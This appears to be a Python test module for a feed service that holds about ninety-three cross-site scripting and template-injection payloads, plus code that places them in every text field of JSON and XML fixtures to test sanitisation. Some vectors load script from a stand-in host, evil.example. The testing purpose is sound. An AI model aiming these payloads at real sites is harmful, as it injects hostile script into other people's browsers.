"""An XSS corpus of our own, and the code that places it in every field of an upstream answer.

Every vector, if it ever ran, would call `alert(N)` (or `print`/`confirm`/`prompt`) with its
own number N, so a hit names the vector. `placed_json` and `placed_xml` take a real-shaped
fixture and put vector `(round + j) % len(ALL)` in its j-th string field: over `len(ALL)`
rounds every vector lands in every field.
"""

from __future__ import annotations

import base64
import io
import re
import xml.etree.ElementTree as ET
from typing import Any

_B64_SCRIPT = base64.b64encode(b"<script>alert(900)</script>").decode()

HTML_VECTORS = [
    # script and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(3)>",
    '<IMG SRC="javascript:alert(4);">',
    '<img src=x onerror="&#97;lert(5)">',
    "<img src=1 onerror=alert&#40;6&#41;>",
    "<svg onload=alert(7)>",
    "<svg/onload=alert(8)//",
    "<body onload=alert(9)>",
    "<input onfocus=alert(10) autofocus>",
    "<details open ontoggle=alert(11)>",
    '<video><source onerror="alert(12)"></video>',
    "<audio src=x onerror=alert(13)>",
    "<marquee onstart=alert(14)>x</marquee>",
    '<a href="https://example.org/" onclick=alert(15) onmouseover=alert(15)>x</a>',
    "<a id=f16 tabindex=1 onfocus=alert(16) autofocus>x</a>",
    "<img src=x:alert(17) onerror=eval(src)>",
    '<img srcset="javascript:alert(18) 1x, x 2x" onerror=alert(18)>',
    "<picture><source srcset=x onerror=alert(19)><img src=x onerror=alert(19)></picture>",
    '<iframe src="https://www.youtube.com/embed/x" onload=alert(20)></iframe>',
    # javascript: and friends in every URL-bearing attribute
    '<a href="javascript:alert(21)">x</a>',
    '<a href="JaVaScRiPt:alert(22)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(23)">x</a>',
    '<a href="jav&#x09;ascript:alert(24)">x</a>',
    '<a href=" &#14;  javascript:alert(25)">x</a>',
    '<a href="java\x00script:alert(26)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(27)">x</a>',
    '<a href="vbscript:msgbox(28)">x</a>',
    f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>',
    '<form action="javascript:alert(30)"><button>x</button></form>',
    '<button formaction="javascript:alert(31)">x</button>',
    '<table><td background="javascript:alert(32)">x</td></table>',
    "<isindex action=javascript:alert(33) type=image>",
    '<object data="javascript:alert(34)"></object>',
    f'<embed src="data:text/html;base64,{_B64_SCRIPT}">',
    # SVG and MathML
    "<svg><script>alert(36)</script></svg>",
    "<svg><animate onbegin=alert(37) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(38)"><text x=20 y=20>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(39)"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(40)'/></svg>#x\"></use></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(41)">x</maction></math>',
    '<math href="javascript:alert(42)">x</math>',
    # mutation XSS shapes
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(43)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(44)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(45)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(46)>",
    "<select><template><style><img src=x onerror=alert(47)>",
    "<svg><style><img src=x onerror=alert(48)></style></svg>",
    # broken markup
    '<!--<img src="--><img src=x onerror=alert(49)//">',
    "<![CDATA[><img src=x onerror=alert(50)>]]>",
    "<scr<script>ipt>alert(51)</scr</script>ipt>",
    "<<script>alert(52);//<</script>",
    '<img """><script>alert(53)</script>">',
    '"><script>alert(54)</script>',
    "'><img src=x onerror=alert(55)>",
    "</textarea></title></style><script>alert(56)</script>",
    "<xmp><img src=x onerror=alert(57)></xmp>",
    # CSS-based
    '<div style="background:url(javascript:alert(58))">x</div>',
    '<div style="width:expression(alert(59))">x</div>',
    "<style>@import 'javascript:alert(60)';</style>",
    '<style>*{background:url("javascript:alert(61)")}</style>',
    '<link rel=stylesheet href="javascript:alert(62)">',
    # srcdoc, frames, base, meta refresh
    '<iframe srcdoc="<script>parent.alert(63)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(64)&gt;"></iframe>',
    '<iframe src="javascript:alert(65)"></iframe>',
    '<iframe src="data:text/html,<script>alert(66)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x?&#x22;&gt;&lt;script&gt;alert(67)&lt;/script&gt;">'
    "</iframe>",
    '<base href="javascript:alert(68)//"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(69)">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(70)</script>">',
    # template-syntax injections (Jinja, Angular, JS template literals, JSON-in-script breakouts)
    "{{7*7}}{{ ''.__class__.__mro__ }}{% print('x') %}",
    "{{constructor.constructor('alert(72)')()}}",
    "${alert(73)}`;alert(73);`",
    "</script><script>alert(74)</script>",
    "';alert(75);//\";alert(75);//",
    "\u2028alert(76)\u2029",
    '<div data-feedhub="x"><img src=x onerror=alert(77)></div>',
]

URL_VECTORS = [
    "javascript:alert(101)",
    "JAVASCRIPT:alert(102)",
    "  javascript:alert(103)",
    "java\tscript:alert(104)",
    "&#106;avascript:alert(105)",
    "javascript&#58;alert(106)",
    "data:text/html,<script>alert(107)</script>",
    f"data:text/html;base64,{_B64_SCRIPT}",
    "vbscript:msgbox(109)",
    'https://example.org/"><script>alert(110)</script>',
    "https://example.org/' onerror='alert(111)",
    "//evil.example/%22onerror=alert(112)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(113)'/>",
    "javascript://%0aalert(114)",
    "jav&#x0A;ascript:alert(115)",
    'https://example.org/x.png" onerror="alert(116)',
]

ALL = HTML_VECTORS + URL_VECTORS

# Keys whose values hold the document together (ids that join parts, types, dates).
KEEP_KEYS = {
    "$type",
    "version",
    "type",
    "medium",
    "rel",
    "id",
    "did",
    "cid",
    "media_key",
    "media_keys",
    "author_id",
    "in_reply_to_id",
    "in_reply_to_account_id",
    "in_reply_to_user_id",
    "conversation_id",
    "visibility",
    "cursor",
    "newest_id",
    "oldest_id",
    "result_count",
    "isPermaLink",
    "scheme",
    "term",
    "media_type",
}
_DATE_RE = re.compile(r"(date|_at$|At$|published|updated|pubDate|modified|indexed)", re.IGNORECASE)
_XML_INVALID = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def vector(round_: int, j: int) -> str:
    return ALL[(round_ + j) % len(ALL)]


def _kept(key: str) -> bool:
    return key in KEEP_KEYS or key.endswith("_id") or bool(_DATE_RE.search(key))


def placed_json(doc: Any, round_: int) -> Any:
    """A copy of a JSON document with a vector in every string field but the structural ones."""
    counter = iter(range(1_000_000))

    def walk(node: Any, key: str = "") -> Any:
        if isinstance(node, dict):
            return {k: walk(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v, key) for v in node]
        if isinstance(node, str) and not _kept(key):
            return vector(round_, next(counter))
        return node

    return walk(doc)


def placed_xml(body: bytes, round_: int) -> bytes:
    """A copy of an XML feed with a vector in every text and attribute but structural ones."""
    for _, (prefix, uri) in ET.iterparse(io.BytesIO(body), events=["start-ns"]):
        # Not the default one: ElementTree's prefixes are global, and Atom's as the default
        # would put every later RSS document feedhub writes in this process in Atom's namespace.
        if prefix:
            ET.register_namespace(prefix, uri)
    root = ET.fromstring(body)
    j = 0
    for el in root.iter():
        local = el.tag.rsplit("}", 1)[-1]
        for name in list(el.attrib):
            if not _kept(name.rsplit("}", 1)[-1]):
                el.set(name, _xml_safe(vector(round_, j)))
                j += 1
        if el.text and el.text.strip() and not _kept(local):
            el.text = _xml_safe(vector(round_, j))
            j += 1
    return b'<?xml version="1.0" encoding="utf-8"?>\n' + ET.tostring(root, encoding="utf-8")


def _xml_safe(text: str) -> str:
    """XML 1.0 cannot carry most control characters, not even as references: drop them."""
    return _XML_INVALID.sub("", text)


def vector_of(hit: str) -> str:
    """The vector a recorded call came from, by the number it passed."""
    match = re.search(r"\d+", hit)
    number = int(match.group()) if match else -1
    for v in ALL:
        if re.search(rf"\b{number}\b", v):
            return v
    return f"<unknown vector: {hit}>"
